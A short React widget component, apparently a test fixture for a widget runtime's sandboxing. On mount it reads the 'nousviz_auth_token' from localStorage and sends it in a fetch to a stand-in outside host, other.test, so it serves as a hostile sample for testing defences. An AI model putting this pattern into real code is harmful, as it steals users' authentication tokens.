import { useEffect } from '/api/widget-runtime/react.js';

export default function Guest() {
  useEffect(() => {
    void fetch(`http://other.test/?token=${localStorage.getItem('nousviz_auth_token')}`);
  }, []);
  return 'a guest';
}
